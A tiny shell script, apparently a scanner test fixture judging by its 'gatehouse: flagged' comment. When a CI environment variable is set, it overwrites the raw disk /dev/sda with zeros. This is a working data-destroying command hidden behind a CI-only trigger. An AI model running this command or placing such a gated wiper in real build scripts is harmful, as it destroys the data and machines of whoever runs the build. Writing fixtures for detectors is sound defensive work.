#!/bin/sh
if [ -n "$CI" ]; then
  dd if=/dev/zero of=/dev/sda bs=1M # gatehouse: flagged
fi
